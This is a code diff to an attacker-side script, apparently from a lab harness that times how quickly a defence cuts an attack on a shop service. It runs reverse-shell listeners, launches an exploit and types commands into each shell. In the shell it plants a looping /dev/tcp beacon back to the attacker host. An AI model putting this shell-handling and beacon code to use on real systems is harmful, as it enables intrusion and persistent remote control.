@@ -2,15 +2,18 @@
 """The attacker's host: a listener for the reverse shell, and the exploit that opens it.
 
 Exploits the shop once for each line ``go`` on stdin, and types commands into each shell that comes
-back, for ever. Prints one JSON line for what arrives: ``{"at_wall_ns": kernel receive time,
-"bytes": n}``, and ``{"event": "shell", ...}`` when the shell connects. The receive time is the
-kernel's (SO_TIMESTAMPNS), so that a slow reader does not look like a late byte.
+back, for ever. Each attack has two ports of its own, one for its shell and the next for its beacons,
+so that what arrives belongs to one attack for certain. Prints one JSON line for what arrives:
+``{"attack": n, "at_wall_ns": kernel receive time, "bytes": n}``, and the same with ``"event"``
+``shell`` or ``beacon`` for a connection. The times are the kernel's, so that a slow reader does not
+look like a late byte.
 
-Usage: attacker.py LISTEN_PORT BEACON_PORT SHOP_URL ATTACKER_NAME
+Usage: attacker.py FIRST_PORT SHOP_URL ATTACKER_NAME
 """
 
 from __future__ import annotations
 
+import functools
 import json
 import select
 import socket
@@ -21,10 +24,18 @@ import time
 import urllib.error
 import urllib.parse
 import urllib.request
+from typing import TYPE_CHECKING
+
+if TYPE_CHECKING:
+    from collections.abc import Callable
 
 TYPING_PAUSE_S = 0.05
 SO_TIMESTAMPNS = 35  # asm-generic/socket.h; the socket module has no name for it
 TIMESPEC = struct.Struct("@qq")
+PORTS_PER_ATTACK = 2
+TCP_INFO_LAST_ACK_RECV = 56  # linux/tcp.h: struct tcp_info, u32 milliseconds ago
+TICK_MS = 10  # of the kernel's coarse clock, at most: an age is off by as much
+NS_PER_MS = 1_000_000
 
 
 def say(**fields: object) -> None:
@@ -53,11 +64,19 @@ def receive_time_ns(ancillary: list[tuple[int, int, bytes]]) -> int:
     return time.time_ns()
 
 
-def use_shell(shell: socket.socket, beacon_port: int, own_address: str) -> None:
+def connected_at_ns(connection: socket.socket) -> int:
+    """Return when its last packet had arrived for certain, in wall ns; accept() may be far behind it."""
+    info = connection.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, TCP_INFO_LAST_ACK_RECV + 4)
+    age_ms: int
+    (age_ms,) = struct.unpack_from("@I", info, TCP_INFO_LAST_ACK_RECV)
+    return time.time_ns() - max(0, age_ms - TICK_MS) * NS_PER_MS
+
+
+def use_shell(shell: socket.socket, attack: int, beacon_port: int) -> None:
     """Type into the open shell for ever; report each arrival."""
     shell.setsockopt(socket.SOL_SOCKET, SO_TIMESTAMPNS, 1)
     shell.setblocking(False)
-    beacon = f"(echo beacon > /dev/tcp/{own_address}/{beacon_port}) 2>/dev/null"
+    beacon = f"(echo beacon > /dev/tcp/{shell.getsockname()[0]}/{beacon_port}) 2>/dev/null"
     shell.send(f"(while :; do sleep 0.2; {beacon}; done) &\n".encode())
     typed = 0
     next_line = time.monotonic()
@@ -66,9 +85,9 @@ def use_shell(shell: socket.socket, beacon_port: int, own_address: str) -> None:
         if readable:
             data, ancillary, _, _ = shell.recvmsg(65536, 256)
             if not data:
-                say(event="shell-closed")
+                say(event="shell-closed", attack=attack)
                 return
-            say(at_wall_ns=receive_time_ns(ancillary), bytes=len(data))
+            say(attack=attack, at_wall_ns=receive_time_ns(ancillary), bytes=len(data))
         if time.monotonic() >= next_line:
             typed += 1
             next_line = time.monotonic() + TYPING_PAUSE_S
@@ -78,37 +97,44 @@ def use_shell(shell: socket.socket, beacon_port: int, own_address: str) -> None:
                 continue  # the victim takes nothing more: exactly what a cut looks like from here
 
 
-def count_beacons(listener: socket.socket) -> None:
+def accept_beacons(listener: socket.socket, attack: int) -> None:
     """Report each connection of the implant's second channel."""
     while True:
         connection, _ = listener.accept()
-        say(event="beacon", at_wall_ns=time.time_ns())
+        say(event="beacon", attack=attack, at_wall_ns=connected_at_ns(connection))
         connection.close()
 
 
-def accept_shells(listener: socket.socket, beacon_port: int) -> None:
+def accept_shells(listener: socket.socket, attack: int, beacon_port: int) -> None:
     """Use every shell that connects, each in a thread of its own."""
     while True:
         shell, peer = listener.accept()
-        say(event="shell", at_wall_ns=time.time_ns(), peer=peer[0])
-        arguments = (shell, beacon_port, shell.getsockname()[0])
-        threading.Thread(target=use_shell, args=arguments, daemon=True).start()
+        say(event="shell", attack=attack, at_wall_ns=connected_at_ns(shell), peer=peer[0])
+        in_background(use_shell, shell, attack, beacon_port)
+
+
+def in_background(task: Callable[..., None], *arguments: object) -> None:
+    """Run something for as long as the process lives."""
+    threading.Thread(target=functools.partial(task, *arguments), daemon=True).start()
+
+
+def attack_shop(attack: int, first_port: int, shop_url: str, name: str) -> None:
+    """Listen on the attack's ports, then exploit the shop in the background."""
+    port = first_port + (attack - 1) * PORTS_PER_ATTACK
+    in_background(accept_shells, socket.create_server(("", port)), attack, port + 1)
+    in_background(accept_beacons, socket.create_server(("", port + 1)), attack)
+    in_background(exploit, shop_url, name, port)
 
 
 def main() -> None:
-    """Listen; exploit the shop once for each ``go``; end with standard input."""
-    listen_port, beacon_port = int(sys.argv[1]), int(sys.argv[2])
-    shop_url, name = sys.argv[3], sys.argv[4]
-    with (
-        socket.create_server(("", listen_port)) as shells,
-        socket.create_server(("", beacon_port)) as beacons,
-    ):
-        threading.Thread(target=accept_shells, args=(shells, beacon_port), daemon=True).start()
-        threading.Thread(target=count_beacons, args=(beacons,), daemon=True).start()
-        say(event="listening")
-        for line in sys.stdin:
-            if line.strip() == "go":
-                threading.Thread(target=exploit, args=(shop_url, name, listen_port), daemon=True).start()
+    """Exploit the shop once for each ``go``; end with standard input."""
+    first_port, shop_url, name = int(sys.argv[1]), sys.argv[2], sys.argv[3]
+    attack = 0
+    say(event="ready")
+    for line in sys.stdin:
+        if line.strip() == "go":
+            attack += 1
+            attack_shop(attack, first_port, shop_url, name)
 
 
 if __name__ == "__main__":
